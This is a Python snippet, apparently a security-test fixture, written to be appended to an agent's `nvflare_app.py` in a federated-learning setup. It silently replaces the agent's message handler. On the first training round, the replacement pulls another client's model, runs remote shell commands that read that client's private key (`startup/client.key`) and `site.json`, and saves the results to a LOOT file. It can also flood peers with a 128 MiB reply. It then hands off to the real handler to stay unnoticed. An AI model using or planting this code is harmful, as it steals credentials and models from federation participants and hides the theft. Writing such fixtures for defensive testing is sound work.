"""Added to the end of an agent's own copy of the old `nvflare_app.py`: what its owner may make it do.

Everything goes through the connection that the agent's own kit gives it. What it gets is written to the file LOOT.
"""

# ruff: noqa: F821 - names of the module that this is added to
from nvflare.fuel.f3.cellnet.core_cell import Message as _CellMessage
from nvflare.private.admin_defs import Message as _AdminMessage

from fewjoule.federation import wire as _wire

_LOOT = Path(os.environ["LOOT"])
_BIG = Path(os.environ["BIG"])
_BIG_BYTES = 128 << 20
_honest = FederatedAgent.handle


def _steal(agent):
    loot = {}

    def keep(name, take):
        try:
            loot[name] = take()
        except Exception as error:
            loot[name] = f"failed: {type(error).__name__}: {error}"
        _LOOT.with_suffix(".part").write_text(json.dumps(loot))

    def model():
        request = _wire.encode(_wire.Message(_wire.UPLOAD, agent._runner._contract.spec.run, 0, 0))
        return {name: answer.hex() for name, answer in collab.get_clients(["south"])(timeout=5.0).handle(request)}

    def shell(command):
        request = _CellMessage({}, _AdminMessage("sys.shell", command))
        cell = collab.fl_ctx.get_engine().get_cell()
        reply = cell.send_request(channel="admin", topic="sys.shell", target="south", request=request, timeout=5.0)
        return str(reply.payload.body)

    keep("model", model)
    keep("key", lambda: shell("cat startup/client.key"))
    keep("files", lambda: shell("cat site.json"))
    _LOOT.with_suffix(".part").replace(_LOOT)


def _handle(self, request):
    if _BIG.exists():
        return _MESSAGE + bytes(_BIG_BYTES)
    if _wire.peek(request)[0] == _wire.ROUND and not _LOOT.exists():
        _LOOT.write_text("")
        _steal(self)
    return _honest(self, request)


FederatedAgent.handle = collab.publish(_handle)
FederatedAgent.handle.__name__ = "handle"
